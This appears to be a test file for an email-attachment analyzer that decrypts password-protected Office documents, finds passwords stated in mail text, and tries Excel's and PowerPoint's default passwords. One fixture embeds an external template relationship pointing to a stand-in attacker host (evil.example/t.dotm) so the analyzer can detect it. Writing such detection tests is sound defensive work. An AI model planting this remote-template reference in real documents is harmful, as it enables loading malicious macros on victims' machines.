import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { analyzeMail, examineMail } from '../../../../core/mail/analyze-mail.ts';
import { openEncryptedOffice } from '../../../../core/mail/archive/encrypted-office.ts';
import { examineArchive } from '../../../../core/mail/archive/examine-archive.ts';
import { Budget } from '../../../../core/mail/mail-budget.ts';
import { ENCRYPTED_OFFICE } from '../../../../core/mail/archive/open-archive.ts';
import { withAttachment } from '../mail-builder.ts';
import { agileDocument, standardDocument } from './encrypted-office-builder.ts';
import { zipOf } from './zip-builder.ts';

const WORKBOOK = zipOf([
  { name: '[Content_Types].xml', content: '<Types/>' },
  { name: 'xl/workbook.xml', content: '<workbook/>' },
  {
    name: 'xl/_rels/workbook.xml.rels',
    content:
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
  },
  { name: 'xl/big.bin', content: 'x'.repeat(20_000) },
]);
const PASSWORD = 'ぱすわーど2026!';
const opened = async (bytes: Uint8Array, password: string): Promise<unknown> => {
  const read = await openEncryptedOffice(bytes)?.read(0, password, 1e9);
  return typeof read === 'object' ? Buffer.from(read.bytes).equals(WORKBOOK) && read.whole : read;
};

describe('an encrypted Office document', () => {
  test.each([
    ['agile, AES-256 and SHA-512', agileDocument(WORKBOOK, PASSWORD)],
    ['agile, AES-128 and SHA-1', agileDocument(WORKBOOK, PASSWORD, { hashName: 'sha1', keyBits: 128 })],
    ['agile, AES-192 and SHA-384', agileDocument(WORKBOOK, PASSWORD, { hashName: 'sha384', keyBits: 192 })],
    ['standard, AES-128', standardDocument(WORKBOOK, PASSWORD)],
  ])('%s: opens with its password alone', async (_way, bytes) => {
    expect(await opened(bytes, PASSWORD)).toBe(true);
    expect(await opened(bytes, 'ぱすわーど2026')).toBe('wrong-password');
    expect(await opened(bytes, '')).toBe('wrong-password');
  });

  test('is read like any other when the mail tells its password', async () => {
    const bytes = agileDocument(WORKBOOK, 'Kx7#pQ2m', { rounds: 5000 });
    const mail = withAttachment('見積.xlsx', bytes, 'パスワードは Kx7#pQ2m です。');
    const { analysis, details } = await examineMail(mail);
    const [attachment] = details.attachments;
    expect(attachment?.archive).toMatchObject({
      format: 'office',
      password: { value: 'Kx7#pQ2m' },
      complete: true,
      entries: [{ name: '見積.xlsx', encrypted: true, sha256: createHash('sha256').update(WORKBOOK).digest('hex') }],
    });
    const kinds = attachment?.archive?.entries[0]?.facts.map(({ kind }) => kind);
    expect(kinds).toContain('remote-template');
    expect(attachment?.facts.map(({ kind }) => kind)).toEqual(['document-encrypted', 'archive-opened']);
    expect(analysis.attachments[0]).toMatchObject({ encrypted: true, detectedType: ENCRYPTED_OFFICE });
    expect(analysis.attachments[0]).not.toHaveProperty('entries');
    expect(analysis.signs.map(({ id }) => id)).toContain('attachment.macro');
  });

  test('stays locked without it, and opens by itself where Excel does', async () => {
    const archiveOf = async (password: string) =>
      (await examineMail(withAttachment('a.xlsx', agileDocument(WORKBOOK, password)))).details.attachments[0];
    expect((await archiveOf('other'))?.facts.map(({ kind }) => kind)).toContain('archive-locked');
    expect((await archiveOf('VelvetSweatshop'))?.archive?.password).toEqual({
      value: 'VelvetSweatshop',
      foundIn: 'Excel',
    });
  });

  test('within an archive is tried with the password of the archive', async () => {
    const zip = zipOf([{ name: 'a.xlsx', content: agileDocument(WORKBOOK, 'secret') }]);
    const options = { tools: {}, passwords: [{ value: 'secret', foundIn: 'typed' }] };
    const archive = await examineArchive(zip, 'application/zip', options);
    expect(archive?.entries[0]?.archive?.entries[0]?.detectedType).toContain('spreadsheetml');
  });

  test('opens by itself where PowerPoint does, and within an archive as well', async () => {
    const bytes = agileDocument(WORKBOOK, '/01Hannes Ruescher/01');
    const [attachment] = (await examineMail(withAttachment('a.pptx', bytes))).details.attachments;
    expect(attachment?.archive?.password?.foundIn).toBe('PowerPoint');
    const zip = zipOf([{ name: 'a.xlsx', content: agileDocument(WORKBOOK, 'VelvetSweatshop') }]);
    const archive = await examineArchive(zip, 'application/zip', { tools: {}, passwords: [] });
    expect(archive?.entries[0]?.archive?.password?.foundIn).toBe('Excel');
  });

  const certificate =
    '<keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/certificate"><c:encryptedKey encryptedKeyValue="AAAA" X509Certificate="AAAA" certVerifier="AAAA"/></keyEncryptor>';
  test.each([
    ['a key for a certificate', (xml: string) => xml.replace('<keyEncryptors>', `<keyEncryptors>${certificate}`)],
    ['a prefix', (xml: string) => xml.replace('<keyData ', '<e:keyData ')],
    ['a comment', (xml: string) => xml.replace('<keyData ', '<!-- <keyData saltValue="AAAA"/> --><keyData ')],
  ])('opens with %s in its description', async (_, edit) => {
    const bytes = agileDocument(WORKBOOK, PASSWORD, { edit });
    expect(await opened(bytes, PASSWORD)).toBe(true);
  });

  test('that is encrypted in another way is told as locked', async () => {
    const bytes = agileDocument(WORKBOOK, PASSWORD, { edit: (xml) => xml.replaceAll('AES', 'DES') });
    const [attachment] = (await examineMail(withAttachment('a.xlsx', bytes))).details.attachments;
    expect(attachment?.facts.map(({ kind }) => kind)).toEqual(['document-encrypted', 'archive-locked']);
  });

  test('costs no more than the mail may spend, and says so', async () => {
    const rounds = new Budget(2500);
    const document = openEncryptedOffice(agileDocument(WORKBOOK, PASSWORD), rounds);
    for (const password of ['a', 'b']) expect(await document?.read(0, password, 1e9)).toBe('wrong-password');
    expect(rounds).toMatchObject({ left: 500, refused: false });
    expect(await document?.read(0, PASSWORD, 1e9)).toBe('unsupported');
    expect(rounds.refused).toBe(true);
    const greedy = agileDocument(WORKBOOK, PASSWORD, { rounds: 1, saidRounds: 9_999_999 });
    const { warnings } = await analyzeMail(withAttachment('a.xlsx', greedy));
    expect(warnings.map(({ code }) => code)).toContain('passwords-not-tried');
  });

  test('a damaged one never throws', async () => {
    const [agile, standard] = [agileDocument(WORKBOOK, 'a', { rounds: 2 }), standardDocument(WORKBOOK, 'a')];
    await fc.assert(
      fc.asyncProperty(
        fc.boolean(),
        fc.array(fc.tuple(fc.nat(8000), fc.nat(255)), { minLength: 1, maxLength: 8 }),
        async (isAgile, edits) => {
          const bytes = (isAgile ? agile : standard).slice();
          for (const [at, byte] of edits) if (at < bytes.length) bytes[at] = byte;
          const rounds = new Budget(isAgile ? 100 : 0);
          const read = await openEncryptedOffice(bytes, rounds)?.read(0, 'a', 1000);
          if (typeof read === 'object') expect(read.bytes.length).toBeLessThanOrEqual(1000);
        },
      ),
      { numRuns: 150 },
    );
  });
});
